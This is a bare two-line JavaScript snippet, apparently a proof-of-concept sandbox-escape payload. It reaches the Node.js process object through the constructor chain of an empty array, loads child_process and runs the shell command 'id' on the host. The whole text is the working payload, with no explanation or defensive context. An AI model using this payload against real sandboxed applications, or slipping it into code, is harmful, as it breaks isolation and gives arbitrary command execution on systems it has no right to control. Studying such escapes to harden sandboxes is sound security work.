const proc = [].constructor.constructor("return process")();
proc.mainModule.require("child_process").execSync("id", {stdio: "inherit"});
